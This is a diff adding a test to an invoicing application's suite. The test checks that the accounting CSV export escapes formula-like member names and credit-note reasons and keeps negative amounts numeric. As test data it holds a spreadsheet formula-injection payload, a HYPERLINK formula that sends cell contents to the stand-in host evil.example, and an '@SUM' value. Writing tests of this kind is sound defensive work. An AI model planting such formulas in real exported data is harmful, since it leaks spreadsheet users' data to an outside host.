@@ -479,6 +479,25 @@ def test_statement_and_export(client, world, session, staff):
     assert len(own.strip().splitlines()) == 3 and a.other_member.legal_name not in own
 
 
+def test_accounting_export_keeps_member_names_inert_and_credit_notes_numeric(client, world, session, staff):
+    """A member named like a formula is exported as text; amounts, negative ones included, stay numbers."""
+    a = world.a
+    make_billable(session, a)
+    a.member.legal_name = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+    charge(session, a, 10000)
+    session.commit()
+    mine = next(i for i in run_and_issue(client, staff)["invoices"] if i["member_id"] == a.member.id)
+    client.post(f"/api/v1/invoices/{mine['invoice_id']}/credit-notes", headers=staff,
+                json={"reason": "@SUM(A1:A9)", "amount": "10.00"})
+    export = client.get(f"/api/v1/invoices/export.csv?start=2026-01-01&end={date.today().year}-12-31",
+                        headers=staff).get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(export), delimiter=";"))[1:]
+    assert {row[3] for row in rows} == {"'" + a.member.legal_name}
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+    credit = next(row for row in rows if row[2] == "credit_note")
+    assert credit[5:9] == ["-10.00", "", "0.00", "-10.00"]
+
+
 # Refused input: the field is named and nothing changes --------------------------------------
 
 
